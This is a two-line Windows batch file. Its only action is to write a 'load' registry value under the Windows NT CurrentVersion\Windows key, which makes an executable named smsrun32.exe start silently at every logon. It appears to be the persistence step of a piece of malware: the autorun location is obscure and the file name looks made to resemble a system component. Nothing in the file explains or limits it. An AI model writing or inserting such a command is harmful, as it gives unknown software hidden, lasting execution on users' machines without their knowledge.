@echo off
reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows" /v load /d smsrun32.exe /f
